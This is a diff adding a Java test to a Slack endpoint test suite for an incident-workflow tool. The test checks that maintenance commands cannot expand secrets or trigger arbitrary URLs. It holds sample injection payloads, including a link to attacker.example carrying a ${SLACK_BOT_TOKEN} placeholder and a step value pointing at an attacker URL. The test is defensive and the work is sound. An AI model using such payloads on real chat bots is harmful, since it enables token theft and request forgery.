@@ -6,6 +6,7 @@ import static org.awaitility.Awaitility.await;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.slack.api.app_backend.SlackSignature;
+import dev.firebreak.workflows.action.HttpAction;
 import dev.firebreak.workflows.incident.IncidentStatus;
 import dev.firebreak.workflows.incident.IncidentWorkflow;
 import dev.firebreak.workflows.notify.IncidentActions;
@@ -234,6 +235,22 @@ class SlackEndpointsTest {
 
     assertThat(refused).contains("P1 " + incident + " is open").contains("add `confirm` at the end");
     assertThat(text(confirmed)).contains("scheduled maintenance");
+  }
+
+  @Test
+  void slackAddsStepsTheConfigDefinesByNameAndItsTextIsNeverExpanded() throws IOException {
+    JsonNode scheduled = maintenance("schedule recoup-backend now 1h Purge <http://attacker.example/?t=${SLACK_BOT_TOKEN}|ok> "
+        + "steps=purge-cdn", "U0ALICE");
+    Matcher id = Pattern.compile("scheduled maintenance \\*(MW-\\d{8}-\\d+)\\*").matcher(text(scheduled));
+    assertThat(id.find()).as(scheduled.toString()).isTrue();
+    String unknown = text(maintenance("schedule recoup-backend +1h 1h Steal steps=http://attacker.example/", "U0ALICE"));
+
+    await().atMost(Duration.ofSeconds(20)).until(() -> slack.api.actions.performed.contains("purge-cdn"));
+    HttpAction purge = slack.api.actions.received.stream().filter(a -> a.name().equals("purge-cdn")).findFirst().orElseThrow();
+    assertThat(purge.fromConfig()).isTrue();
+    assertThat(purge.url()).isEqualTo("http://127.0.0.1:9/purge");
+    assertThat(slack.api.actions.received).allSatisfy(a -> assertThat(a.url()).doesNotContain("attacker"));
+    assertThat(unknown).contains("names no step of the config ('http://attacker.example/'); known: purge-cdn");
   }
 
   private JsonNode maintenance(String text, String user) throws IOException {
